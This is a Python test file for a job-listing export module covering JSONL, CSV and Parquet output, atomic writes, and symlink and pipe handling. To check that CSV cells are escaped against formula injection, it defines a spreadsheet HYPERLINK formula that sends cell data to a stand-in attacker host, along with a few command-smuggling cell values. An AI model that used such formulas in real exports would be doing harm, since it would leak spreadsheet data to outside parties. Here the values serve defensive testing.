"""Exports hold what the listings hold, run nothing where they are opened, and appear whole or not at all."""

import csv
import json
import os
import threading
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobimport_tui import sheets
from jobimport_tui.sheets import FORMATS, Format, opened, safe_cell
from workers.errors import ConfigError

AT = datetime(2026, 11, 1, 12, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def listing(n: int = 1, **fields: Any) -> dict[str, Any]:
    return {
        "_id": f"board:{n}",
        "source": "board",
        "external_id": str(n),
        "title": "Engineer",
        "company": "Acme",
        "locations": ["Berlin", "Zürich"],
        "salary": {"min": 50_000.5, "max": None, "currency": "EUR", "unit": "YEAR", "text": "50k"},
        "pay": 50_000,
        "posted_at": AT,
        "status": "open",
        "first_run": 1,
        "closed_run": None,
        "metadata": {"first_seen": AT, "attribution": "Board"},
        "raw_hash": b"\x00",
        "description": '<p>Line "one"\nline two, ü\u202e</p>',
        **fields,
    }


def write(path: Path, format: Format, *pages: list[dict[str, Any]]) -> None:
    with opened(str(path), format) as sheet:
        for page in pages:
            sheet.write(page)


def test_json_lines_are_the_listings_in_ascii(tmp_path: Path):
    write(tmp_path / "a.jsonl", "jsonl", [listing(1), listing(2, title="\u202eenoN")], [listing(3)])
    lines = (tmp_path / "a.jsonl").read_bytes().decode("ascii").splitlines()
    assert [json.loads(line)["_id"] for line in lines] == ["board:1", "board:2", "board:3"]
    assert json.loads(lines[1])["title"] == "\u202eenoN"
    assert json.loads(lines[0])["posted_at"] == "2026-11-01T12:00:00Z"
    assert "raw_hash" not in json.loads(lines[0])


def test_csv_has_a_row_a_listing_whatever_stands_in_it(tmp_path: Path):
    write(tmp_path / "a.csv", "csv", [listing(1, title=HOSTILE, company=" \t-2+3|cmd", url="https://x/\r\n=1")])
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] == f"'{HOSTILE}"
    assert row["company"].startswith("'")
    assert row["locations"] == "Berlin; Zürich"
    assert (row["salary_min"], row["salary_max"], row["first_run"]) == ("50000.5", "", "1")
    assert row["posted_at"] == "2026-11-01T12:00:00Z"
    assert "\n" not in row["description"] and "\u202e" not in row["description"]


@given(st.one_of(st.text(), st.text("=+-@\t\r\n |%＝＠'\x00a", max_size=8), st.lists(st.text(max_size=5), max_size=3)))
def test_no_cell_is_a_formula(value: Any):
    cell = safe_cell(value)
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"))
    assert "\n" not in cell and "\r" not in cell and "\t" not in cell


def test_parquet_has_types(tmp_path: Path):
    parquet = pytest.importorskip("pyarrow.parquet")
    write(tmp_path / "a.parquet", "parquet", [listing(1), listing(2, salary=None, locations=[])], [listing(3)])
    rows = parquet.read_table(tmp_path / "a.parquet").to_pylist()
    assert [row["id"] for row in rows] == ["board:1", "board:2", "board:3"]
    assert (rows[0]["posted_at"], rows[0]["salary_min"], rows[0]["locations"]) == (AT, 50_000.5, ["Berlin", "Zürich"])
    assert (rows[1]["salary_min"], rows[1]["locations"], rows[1]["closed_run"]) == (None, [], None)


@pytest.mark.parametrize("format", FORMATS)
def test_an_export_of_nothing_is_a_whole_file(tmp_path: Path, format: Format):
    write(tmp_path / "a", format)
    assert [file.name for file in tmp_path.iterdir()] == ["a"]


def test_an_export_that_breaks_off_leaves_what_was_there(tmp_path: Path):
    (tmp_path / "a.csv").write_text("old")
    with pytest.raises(KeyboardInterrupt), opened(str(tmp_path / "a.csv"), "csv") as sheet:
        sheet.write([listing()])
        raise KeyboardInterrupt
    assert [(file.name, file.read_text()) for file in tmp_path.iterdir()] == [("a.csv", "old")]


def test_a_file_that_is_there_stays_where_a_new_one_was_asked_for(tmp_path: Path):
    (tmp_path / "a.csv").write_text("old")
    with pytest.raises(ConfigError, match="free"), opened(str(tmp_path / "a.csv"), "csv", is_new=True):
        pass
    with pytest.raises(ConfigError, match="free"), opened(str(tmp_path / "b.csv"), "csv", is_new=True):
        (tmp_path / "b.csv").write_text("meanwhile")
    assert sorted((file.name, file.read_text()) for file in tmp_path.iterdir()) == [
        ("a.csv", "old"),
        ("b.csv", "meanwhile"),
    ]


@pytest.mark.parametrize("path", ["none/a.csv", "."])
def test_a_place_that_cannot_be_written_to_is_named(tmp_path: Path, path: str):
    with pytest.raises(ConfigError, match="expected a"), opened(str(tmp_path / path), "csv"):
        pass


def test_the_format_is_what_the_name_says():
    assert [sheets.format_of(f"a/b.{format}") for format in FORMATS] == list(FORMATS)
    with pytest.raises(ConfigError, match=r"\.jsonl, \.csv, \.parquet"):
        sheets.format_of("jobs.xlsx")


def test_a_link_stays_a_link_and_a_pipe_a_pipe(tmp_path: Path):
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to("real.csv")
    write(tmp_path / "link.csv", "csv", [listing(1)])
    assert (tmp_path / "link.csv").is_symlink()
    assert "board:1" in (tmp_path / "real.csv").read_text()
    os.mkfifo(tmp_path / "pipe.jsonl")
    read: list[str] = []
    reader = threading.Thread(target=lambda: read.append((tmp_path / "pipe.jsonl").read_text()), daemon=True)
    reader.start()
    write(tmp_path / "pipe.jsonl", "jsonl", [listing(1)])
    reader.join(10)
    assert json.loads(read[0])["_id"] == "board:1"
    assert (tmp_path / "pipe.jsonl").is_fifo()
    assert sorted(file.name for file in tmp_path.iterdir()) == ["link.csv", "pipe.jsonl", "real.csv"]
